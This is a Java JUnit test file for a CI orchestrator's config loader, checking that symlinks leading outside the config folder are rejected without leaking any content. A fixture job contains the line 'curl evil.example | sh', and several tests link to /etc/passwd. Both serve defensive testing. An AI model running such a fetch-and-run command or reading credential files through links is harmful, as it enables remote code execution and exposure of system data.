package dev.ciorchestrator.config.loading;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ciorchestrator.config.model.ConfigError;
import dev.ciorchestrator.config.model.ConfigSnapshot;
import dev.ciorchestrator.config.model.LoadResult;
import dev.ciorchestrator.policy.cel.CelPolicyEngine;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Real symbolic links in a plain config folder: nothing outside the folder is ever read. */
class FolderSymlinkTest {
  static final String REPO =
      """
      apiVersion: ci-orchestrator/v1
      kind: Repository
      name: demo/app
      forge: local
      """;

  /** Valid config, so a load that reads it would succeed; and a marker no error may show. */
  static final String OUTSIDE_JOB =
      """
      # OUTSIDE-SECRET-MARKER
      apiVersion: ci-orchestrator/v1
      kind: Job
      name: planted
      repos: [demo/app]
      run: curl evil.example | sh
      """;

  @TempDir Path tmp;
  Path config;
  Path outside;

  @BeforeEach
  void folders() throws IOException {
    config = Files.createDirectories(tmp.resolve("config"));
    outside = Files.createDirectories(tmp.resolve("elsewhere"));
    Files.writeString(config.resolve("repo.yaml"), REPO);
    Files.writeString(outside.resolve("planted.yaml"), OUTSIDE_JOB);
  }

  @Test
  void aLinkToEtcPasswdIsAnErrorThatQuotesNothingOfIt() throws IOException {
    Files.createSymbolicLink(config.resolve("passwd.yaml"), Path.of("/etc/passwd"));

    List<ConfigError> errors = errors(load());

    assertThat(errors)
        .extracting(ConfigError::format)
        .containsExactly("passwd.yaml:1:1: " + ConfigLinks.OUTSIDE);
    assertThat(errors.toString()).doesNotContain("root").doesNotContain("/etc/passwd");
  }

  @Test
  void aJobFileLinkedFromOutsideIsNeitherLoadedNorShown() throws IOException {
    Files.createDirectories(config.resolve("jobs"));
    Files.createSymbolicLink(config.resolve("jobs/planted.yaml"), outside.resolve("planted.yaml"));
    Files.createSymbolicLink(
        config.resolve("jobs/relative.yml"), Path.of("../../elsewhere/planted.yaml"));

    List<ConfigError> errors = errors(load());

    assertThat(errors)
        .extracting(ConfigError::format)
        .containsExactly(
            "jobs/planted.yaml:1:1: " + ConfigLinks.OUTSIDE,
            "jobs/relative.yml:1:1: " + ConfigLinks.OUTSIDE);
    assertThat(errors.toString()).doesNotContain("MARKER").doesNotContain("elsewhere");
  }

  @Test
  void aLinkToAFolderOutsideIsAnErrorAndNothingInItIsRead() throws IOException {
    Files.createSymbolicLink(config.resolve("shared"), outside);

    assertThat(errors(load()))
        .extracting(ConfigError::format)
        .containsExactly("shared:1:1: " + ConfigLinks.FOLDER_OUTSIDE);
  }

  @Test
  void linksThatLeadNowhereAreErrors() throws IOException {
    Files.createSymbolicLink(config.resolve("gone.yaml"), Path.of("missing.yaml"));
    Files.createSymbolicLink(config.resolve("loop-a.yaml"), Path.of("loop-b.yaml"));
    Files.createSymbolicLink(config.resolve("loop-b.yaml"), Path.of("loop-a.yaml"));

    assertThat(errors(load()))
        .extracting(ConfigError::format)
        .containsExactly(
            "gone.yaml:1:1: " + ConfigLinks.NOWHERE,
            "loop-a.yaml:1:1: " + ConfigLinks.NOWHERE,
            "loop-b.yaml:1:1: " + ConfigLinks.NOWHERE);
  }

  /** How Kubernetes mounts a ConfigMap: visible links into a hidden, atomically swapped folder. */
  @Test
  void aLinkInsideTheFolderIsReadUnderItsOwnName() throws IOException {
    Files.delete(config.resolve("repo.yaml"));
    Path version = Files.createDirectories(config.resolve("..2026_01_01"));
    Files.writeString(version.resolve("repo.yaml"), "\n\n" + REPO);
    Files.createSymbolicLink(config.resolve("..data"), Path.of("..2026_01_01"));
    Files.createSymbolicLink(config.resolve("repo.yaml"), Path.of("..data/repo.yaml"));

    ConfigSnapshot snapshot = snapshot(load());

    assertThat(snapshot.repositories())
        .singleElement()
        .satisfies(
            r -> {
              assertThat(r.name()).isEqualTo("demo/app");
              assertThat(r.source().toString()).isEqualTo("repo.yaml:3:1");
            });
  }

  @Test
  void aLinkToAFolderInsideIsNotEnteredSoNothingIsReadTwice() throws IOException {
    Files.createDirectories(config.resolve("jobs"));
    Files.writeString(config.resolve("jobs/build.yaml"), OUTSIDE_JOB.replace("planted", "build"));
    Files.createSymbolicLink(config.resolve("alias"), Path.of("jobs"));

    assertThat(snapshot(load()).jobs()).extracting(j -> j.name()).containsExactly("build");
  }

  @Test
  void linksThatAreNotConfigFilesOrAreHiddenAreIgnoredLikeAnyOtherSuchFile() throws IOException {
    Files.createSymbolicLink(config.resolve("README"), Path.of("/etc/passwd"));
    Files.createSymbolicLink(config.resolve(".hidden.yaml"), Path.of("/etc/passwd"));
    Files.createDirectories(config.resolve(".github"));
    Files.createSymbolicLink(config.resolve(".github/x.yaml"), outside.resolve("planted.yaml"));

    assertThat(snapshot(load()).summary()).isEqualTo("1 repositories, 0 jobs, 0 policies");
  }

  @Test
  void theConfigFolderItselfMayBeALink() throws IOException {
    Path link = Files.createSymbolicLink(tmp.resolve("mounted"), config);

    LoadResult result =
        new ConfigLoader(new CelPolicyEngine())
            .load("r", new DirectoryConfigSource(link).read(null));

    assertThat(snapshot(result).repositories()).hasSize(1);
  }

  /** JUnit would warn about every link it deletes that leads out of its temporary folder. */
  @AfterEach
  void removeLinks() throws IOException {
    try (Stream<Path> all = Files.walk(tmp)) {
      for (Path p : all.filter(Files::isSymbolicLink).toList()) {
        Files.delete(p);
      }
    }
  }

  private LoadResult load() throws IOException {
    return new ConfigLoader(new CelPolicyEngine())
        .load("r", new DirectoryConfigSource(config).read(null));
  }

  private static List<ConfigError> errors(LoadResult result) {
    assertThat(result).isInstanceOf(LoadResult.Failed.class);
    return ((LoadResult.Failed) result).errors();
  }

  private static ConfigSnapshot snapshot(LoadResult result) {
    assertThat(result).isInstanceOf(LoadResult.Loaded.class);
    return ((LoadResult.Loaded) result).snapshot();
  }
}
